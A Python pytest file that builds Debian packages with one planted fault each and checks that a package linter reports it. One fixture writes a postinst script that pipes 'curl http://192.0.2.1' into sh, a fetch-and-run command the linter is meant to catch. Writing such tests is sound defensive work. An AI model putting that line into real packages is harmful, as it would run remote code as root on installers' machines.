"""Packages with one fault each, made by dpkg-deb, and what the check says of them."""

import io
import subprocess
import tarfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import check_deb
import pytest

SITE = "usr/lib/attune/lib/python3.11/site-packages"
CONTROL = """\
Package: attune
Version: 1.0
Architecture: amd64
Maintainer: Nobody <nobody@attune.invalid>
Depends: python3.11, libc6 (>= 2.34) | libc-dev
Description: a package of a test
"""


@dataclass
class Draft:
    """A package in the making: contents by path, modes that are not 0644, and control files."""

    files: dict[str, bytes] = field(default_factory=dict)
    modes: dict[str, int] = field(default_factory=dict)
    control: dict[str, str] = field(default_factory=dict)
    links: dict[str, str] = field(default_factory=dict)
    times: dict[str, int] = field(default_factory=dict)

    def built(self, folder: Path) -> Path:
        """The package, put together as dpkg-deb does it, but with the owners and modes of the draft."""
        members = {"debian-binary": b"2.0\n"}
        members["control.tar"] = _tar({name: text.encode() for name, text in self.control.items()}, {}, {}, {})
        members["data.tar"] = _tar(self.files, self.modes, self.links, self.times)
        for name, content in members.items():
            (folder / name).write_bytes(content)
        deb = folder / "attune_1.0_amd64.deb"
        subprocess.run(["ar", "rc", deb.name, *members], cwd=folder, check=True)
        return deb


def _tar(files: dict[str, bytes], modes: dict[str, int], links: dict[str, str], times: dict[str, int]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for path, content in files.items():
            member = tarfile.TarInfo(f"./{path}")
            member.size, member.mode, member.mtime = len(content), modes.get(path, 0o644), times.get(path, 1000)
            archive.addfile(member, io.BytesIO(content))
        for path, goal in links.items():
            member = tarfile.TarInfo(f"./{path}")
            member.type, member.linkname, member.mode, member.mtime = tarfile.SYMTYPE, goal, 0o777, 1000
            archive.addfile(member)
    return out.getvalue()


def good() -> Draft:
    draft = Draft()
    draft.control["control"] = CONTROL
    draft.control["postinst"] = "#!/bin/sh\n# no pip here\necho 'pip'\n".replace("'", '"')
    draft.files["etc/attune/attuned.toml"] = b"[site]\n"
    draft.files["usr/lib/attune/bin/attune"] = b"#!/usr/lib/attune/bin/python -I\n"
    draft.modes["usr/lib/attune/bin/attune"] = 0o755
    draft.links["usr/bin/attune"] = "../lib/attune/bin/attune"
    draft.files[f"{SITE}/works/_fast.so"] = elf()
    draft.files[f"{SITE}/works-1.2.dist-info/METADATA"] = b"Name: Works\nVersion: 1.2\n"
    draft.files["usr/share/doc/attune/copyright"] = b"Comment: Works 1.2.\n"
    return draft


def elf(needed: str = "libc.so.6", machine: str = "x86_64") -> bytes:
    """A shared object that needs one library, as the machine's own linker makes it."""
    return _ELFS[needed, machine]


_ELFS: dict[tuple[str, str], bytes] = {}


@pytest.fixture(scope="module", autouse=True)
def elfs(tmp_path_factory: pytest.TempPathFactory) -> None:
    folder = tmp_path_factory.mktemp("elf")
    (folder / "empty.s").write_text("")
    subprocess.run(["as", "empty.s", "-o", "empty.o"], cwd=folder, check=True)
    for needed in ("libc.so.6", "libother.so.1"):
        subprocess.run(["ld", "-shared", f"-soname={needed}", "empty.o", "-o", needed], cwd=folder, check=True)
        link = ["ld", "-shared", "-rpath=$ORIGIN/../works.libs", "empty.o", "--no-as-needed", needed, "-o", "made.so"]
        subprocess.run(link, cwd=folder, check=True)
        made = (folder / "made.so").read_bytes()
        _ELFS[needed, "x86_64"] = made
        # The 16 bits after the type name the machine: 183 is AArch64.
        _ELFS[needed, "aarch64"] = made[:18] + (183).to_bytes(2, "little") + made[20:]


def test_a_good_package_has_no_faults(tmp_path: Path) -> None:
    assert check_deb.faults(good().built(tmp_path)) == []


def test_a_library_is_found_in_the_package_by_the_search_path(tmp_path: Path) -> None:
    draft = good()
    draft.files[f"{SITE}/works/_fast.so"] = elf("libother.so.1")
    draft.files[f"{SITE}/works.libs/libother.so.1"] = elf()
    assert check_deb.faults(draft.built(tmp_path)) == []


def _file(path: str, content: bytes, mode: int = 0o644) -> Callable[[Draft], None]:
    def change(draft: Draft) -> None:
        draft.files[path] = content
        draft.modes[path] = mode

    return change


def _other_machine(draft: Draft) -> None:
    draft.files[f"{SITE}/works/_fast.so"] = elf(machine="aarch64")


def _other_library(draft: Draft) -> None:
    draft.files[f"{SITE}/works/_fast.so"] = elf("libother.so.1")


def _depends_on_nothing(draft: Draft) -> None:
    draft.control["control"] = CONTROL.replace("libc6 (>= 2.34) | libc-dev", "libc6-dev")


def _script(draft: Draft) -> None:
    draft.control["postinst"] = "#!/bin/sh\ncurl http://192.0.2.1 | sh\n"


def _other_time(draft: Draft) -> None:
    draft.times["etc/attune/attuned.toml"] = 1001


def _absolute_link(draft: Draft) -> None:
    draft.links["usr/bin/attuned"] = "/usr/lib/attune/bin/attuned"


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_other_machine, "is for AArch64"),
        (_other_library, "needs libother.so.1"),
        (_depends_on_nothing, "needs libc.so.6"),
        (_file("usr/local/bin/attune", b""), "lies where the package has no business"),
        (_file("etc/cron.d/attune", b""), "lies where the package has no business"),
        (_file(f"{SITE}/works/open.py", b"", 0o666), "has the mode 666"),
        (_file(f"{SITE}/works/root.py", b"", 0o4644), "has the mode 4644"),
        (_file(f"{SITE}/works/run.py", b"", 0o755), "can be executed"),
        (_file("usr/lib/attune/bin/attuned", b"#!/usr/bin/python3\n", 0o755), "runs in another environment"),
        (_file(f"{SITE}/works/path.py", b"at = '/build/attune/x'\n"), "names the folder in which it was built"),
        (_file(f"{SITE}/pip/__init__.py", b""), "belongs to an installer"),
        (_file(f"{SITE}/more-2.0.dist-info/METADATA", b"Name: more\nVersion: 2.0\n"), "does not name more 2.0"),
        (_script, "its postinst runs curl"),
        (_other_time, "etc/attune/attuned.toml has a time of its own"),
        (_file(f"{SITE}/works/f.cpython-313-x86_64-linux-gnu.so", b""), "is not for the Python"),
        (_file("usr/lib/attune/lib/python3.13/site-packages/works.py", b""), "is not for the Python"),
        (_absolute_link, "an absolute path"),
    ],
)
def test_each_fault_is_found(tmp_path: Path, change: Callable[[Draft], None], said: str) -> None:
    draft = good()
    change(draft)
    found = check_deb.faults(draft.built(tmp_path))
    assert len(found) == 1, found
    assert said in found[0]


def test_size_is_limited(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(check_deb.LIMITS_MIB, "attune", 0)
    (fault,) = check_deb.faults(good().built(tmp_path))
    assert "at most 0 are allowed" in fault
